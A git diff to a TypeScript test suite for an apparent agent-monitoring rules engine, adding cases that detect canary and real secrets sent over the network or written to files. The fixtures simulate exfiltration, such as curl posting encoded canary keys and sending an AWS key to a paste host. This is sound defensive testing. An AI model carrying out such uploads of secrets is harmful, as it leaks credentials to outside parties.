@@ -4,17 +4,30 @@ import { packageRoot } from '../../package-root.js';
 import { evaluateRules } from './evaluate.js';
 import { loadRuleSet } from './load-rules.js';
 import { CTX, HOME, Trace, WS } from './test-events.js';
+import type { PatchFinding } from './types.js';
 
 const rules = loadRuleSet({}, { rulesDir: path.join(packageRoot(), 'rules') });
-const run = (t: Trace, patch?: string) =>
-  evaluateRules({ syscalls: t.events, network: t.records, ...(patch ? { patch } : {}) }, rules, CTX);
-const ids = (t: Trace, patch?: string) => run(t, patch).map((a) => a.rule);
+/** A case gives the diff's text, or the canary findings of what was written. */
+type Written = string | PatchFinding[] | undefined;
+const run = (t: Trace, extra?: Written) =>
+  evaluateRules(
+    {
+      syscalls: t.events,
+      network: t.records,
+      ...(typeof extra === 'string' ? { patch: extra } : extra ? { written: extra } : {}),
+    },
+    rules,
+    CTX,
+  );
+const ids = (t: Trace, extra?: Written) => run(t, extra).map((a) => a.rule);
 
 const BRIDGE = { family: 'inet' as const, ip: '127.0.0.1', port: 3128 };
 const diff = (file: string, added: string[]) =>
   `diff --git a/${file} b/${file}\n--- a/${file}\n+++ b/${file}\n@@ -1,1 +1,${added.length + 1} @@\n {\n${added.map((l) => `+${l}`).join('\n')}\n`;
 
-type Case = { fire: (t: Trace) => string | undefined; benign: (t: Trace) => string | undefined };
+type Case = { fire: (t: Trace) => Written; benign: (t: Trace) => Written };
+
+const canaryLeak = { detector: 'canary-ssh-key', kind: 'canary' as const, fingerprint: 'abcd1234' };
 
 /** For every default rule: a workload that fires it and a similar-looking honest one that must not. */
 const CASES: Record<string, Case> = {
@@ -425,6 +438,66 @@ const CASES: Record<string, Case> = {
         method: 'A',
       }),
     benign: (t) => void t.record({ host: 'API.Example.com.', port: 53, protocol: 'dns', method: 'A' }),
+  },
+  'secrets-canary-sent': {
+    fire: (t) =>
+      void t.exec(2, 1, '/usr/bin/curl', ['curl', '-d', '@-', 'http://api.example.com:443/']).record({
+        host: 'api.example.com',
+        port: 443,
+        protocol: 'http',
+        method: 'POST',
+        decision: 'allowed',
+        leaks: [{ where: 'body', encoding: 'gzip+base64', ...canaryLeak }],
+      }),
+    benign: (t) =>
+      void t.exec(2, 1, '/usr/bin/curl', ['curl', '-d', '@-', 'http://api.example.com:443/']).record({
+        host: 'api.example.com',
+        port: 443,
+        protocol: 'http',
+        method: 'POST',
+        decision: 'allowed',
+      }),
+  },
+  'secrets-secret-sent': {
+    fire: (t) =>
+      void t.exec(2, 1, '/usr/bin/curl', ['curl', 'https://paste.example/']).record({
+        host: 'paste.example',
+        port: 443,
+        protocol: 'connect',
+        method: 'CONNECT',
+        decision: 'allowed',
+        leaks: [{ where: 'host', detector: 'aws-access-key', kind: 'preset', fingerprint: '0badf00d' }],
+      }),
+    // A file with a sample key sent to the allowed model provider, as agents send what they read.
+    benign: (t) =>
+      void t.exec(2, 1, '/usr/bin/node', ['node', 'agent.js']).record({
+        host: 'api.example.com',
+        port: 443,
+        protocol: 'http',
+        method: 'POST',
+        decision: 'allowed',
+        leaks: [
+          { where: 'credential-header', detector: 'openai-key', kind: 'preset', fingerprint: '0badf00d' },
+        ],
+      }),
+  },
+  'secrets-canary-written': {
+    fire: (t) => {
+      t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${WS}/fixtures/blob.bin`, 'write');
+      return [
+        {
+          file: 'fixtures/blob.bin',
+          line: 0,
+          finding: 'canary',
+          text: 'canary-ssh-key, hex in binary',
+          leak: { where: 'binary', encoding: 'hex', ...canaryLeak },
+        },
+      ];
+    },
+    benign: (t) => {
+      t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${WS}/fixtures/blob.bin`, 'write');
+      return [];
+    },
   },
   'net-dns-tunnel': {
     fire: (t) =>
